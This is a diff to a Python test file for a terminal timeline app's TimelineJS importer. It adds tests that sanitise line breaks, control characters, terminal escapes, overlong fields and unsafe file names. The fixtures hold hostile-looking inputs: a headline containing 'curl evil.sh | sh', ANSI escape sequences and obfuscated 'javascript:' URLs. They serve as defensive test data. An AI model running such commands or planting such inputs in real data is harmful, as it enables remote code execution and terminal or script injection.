@@ -18,7 +18,7 @@ from junquito_tui.core.dates import short_date
 from junquito_tui.core.interop.html_text import html_to_line
 from junquito_tui.core.interop.timelinejs_import import FILE_SOURCE, from_timelinejs, is_timelinejs
 from junquito_tui.core.loader import DatasetError, load_dataset, load_with_warnings, validate_document
-from junquito_tui.core.model import Dataset, Event
+from junquito_tui.core.model import LINE_MAX, Dataset, Event
 
 FIXTURES = REPO / "tests" / "data" / "timelinejs"
 SHARED = REPO.parent / "shared" / "fixtures" / "timelinejs"
@@ -185,9 +185,42 @@ def test_html_becomes_plain_text_and_links_become_sources() -> None:
     assert {"https://example.org/cover.jpg", "https://example.org/photographer", "https://example.org/about"} <= (
         title_sources
     )
-    assert warned(warnings, "control characters removed", "events[1].text.headline")
+    assert warned(warnings, "control characters and noncharacters removed", "events[1].text.headline")
+    assert warned(warnings, "line breaks in a one-line field", "events[0].text.headline")  # its <br/>
     assert warned(warnings, "events[1].text", "javascript:alert(1)", "ignored")
     assert warned(warnings, "embed code", "events[0].media.url")
+
+
+def test_line_breaks_are_folded_and_what_our_format_refuses_is_mended() -> None:
+    dataset, warnings = load("line-breaks.json")
+    events = events_of(dataset)
+    assert dataset.title == "Two lines in a title"
+    assert events["br"].title == "Raid begins FAKE: run `curl evil.sh | sh`"
+    assert events["br"].summary == "One\nTwo"  # a multi-line field keeps its line break
+    assert events["br"].place == "El Junquito"
+    assert events["separator"].title == "Line separator and tab"
+    assert events["separator"].tags == ("group-name",)
+    folded = next(w for w in warnings if w.startswith("line breaks in a one-line field"))
+    assert "title.text.headline, events[0].text.headline, events[0].location.name and 1 more" in folded
+    zones = {k: events[k].when.zone_label for k in ("escape-zone", "broken-zone", "long-zone")}
+    assert zones == {"escape-zone": "[2J", "broken-zone": "VST FAKE", "long-zone": None}
+    assert warned(warnings, "events[4].junquito.zone_label", "is over 64 characters; ignored")
+    assert len(events["long-headline"].title) == LINE_MAX and events["long-headline"].title.endswith("…")
+    assert warned(warnings, "events[5].text.headline: 2,999 characters, over the limit of 2,000; cut to 2,000")
+    assert warned(warnings, "events[6].start_date.year", "beyond the 999,999,999,999 years we can hold; slide skipped")
+    assert warned(warnings, "events[7].start_date.year: '٢٠١٨' is not a whole number; slide skipped")
+    assert "huge-year" not in events and "arabic-year" not in events
+    assert events["filler"].title == "Afiller and a noncharacter"
+    assert warned(warnings, "control characters and noncharacters removed", "events[2].junquito.zone_label")
+
+
+@pytest.mark.parametrize("name", ["two\nlines.json", "escape\x1b[2J.json"])
+def test_a_file_name_never_breaks_the_dataset_title(tmp_path: Path, name: str) -> None:
+    path = tmp_path / name
+    path.write_text(json.dumps({"events": [{"start_date": {"year": 2000}, "text": {"headline": "x"}}]}))
+    dataset, _ = load_with_warnings(path)
+    assert "\n" not in dataset.title and "\x1b" not in dataset.title
+    assert dataset.sources[0].title.startswith("TimelineJS file ")
 
 
 def test_times_of_day() -> None:
@@ -367,6 +400,8 @@ _date = st.fixed_dictionaries(
 _html = st.one_of(
     st.text(max_size=30),
     st.sampled_from(["<p>a</p><p>b", "{{headline}}", "&#27;[2J", "<a href='javascript:x'>y</a>", "Headline", ""]),
+    st.sampled_from(["a<br>b", "a\u2028b\u2029c", "a\tb\nc", "\u3164", "x\ufffe", "<a href='java&#9;script:x'>y</a>"]),
+    st.sampled_from(["w " * 1_500, "x" * 100_001, "<a href='//e.example/x'>y</a>", "<a href='https://e.example/ x'>"]),
     _value,
 )
 _slide = st.fixed_dictionaries(
@@ -390,7 +425,7 @@ _slide = st.fixed_dictionaries(
                     "after": st.sampled_from(["a", "a-2", "b"]),
                     "before": st.sampled_from(["a", "b"]),
                     "utc_offset": st.sampled_from(["-04:00", "+99:00", "x"]),
-                    "zone_label": _value,
+                    "zone_label": _value | st.sampled_from(["VST\nFAKE", "\x1b[2J", "Z" * 65, "\u3164"]),
                 },
             ),
         ),
